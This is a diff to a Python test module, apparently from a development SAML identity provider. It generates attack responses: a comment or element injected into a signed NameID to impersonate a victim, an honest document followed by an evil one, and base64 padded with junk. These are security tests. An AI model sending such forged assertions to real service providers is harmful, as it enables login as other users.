@@ -5,9 +5,11 @@ from __future__ import annotations
 import base64
 import zlib
 
+from lxml import etree
+
 from devidp import saml_xml as sx
 from devidp.saml_attack import SUFFIX, Context, Table
-from devidp.saml_response import Attribute
+from devidp.saml_response import Attribute, build
 from devidp.saml_xml import SAML, SAMLP, Element
 
 PARSER = Table()
@@ -78,13 +80,13 @@ def _split(context: Context, node: Element) -> bytes:
 @PARSER.attack("S13", own_name=True)
 def instruction_in_name_id(context: Context) -> bytes:
     """A processing instruction behind the victim's name in a longer NameID, signed with it inside."""
-    return _split(context, sx.etree.ProcessingInstruction("x", "y"))
+    return _split(context, etree.ProcessingInstruction("x", "y"))
 
 
 @PARSER.attack("S13")
 def element_in_name_id(context: Context) -> bytes:
     """An element behind the victim's name in a longer NameID, signed with it inside."""
-    return _split(context, sx.etree.Element("x"))
+    return _split(context, etree.Element("x"))
 
 
 # -- DTDs and entities (S12, S14) ----------------------------------------------------------------------
@@ -185,7 +187,7 @@ def unknown_encoding(context: Context) -> bytes:
 @PARSER.attack("S12")
 def two_documents(context: Context) -> bytes:
     """An honest document, and an evil one behind it."""
-    return context.honest() + _body(sx.document(sx.own(context.honest())))
+    return context.honest() + _body(build(context.evil(encrypt="none")))
 
 
 @PARSER.attack("S12")
@@ -249,7 +251,8 @@ def not_base64(context: Context) -> str:
 @PARSER.attack("S12")
 def base64_with_garbage(context: Context) -> str:
     """Characters between the base64 that a lenient reader skips."""
-    return "*".join(base64.b64encode(context.honest()).decode()[n:][:76] for n in range(0, 4096, 76)) + "!"
+    text = base64.b64encode(context.honest()).decode()
+    return "*".join(text[n : n + 76] for n in range(0, len(text), 76))
 
 
 @PARSER.attack("S12")
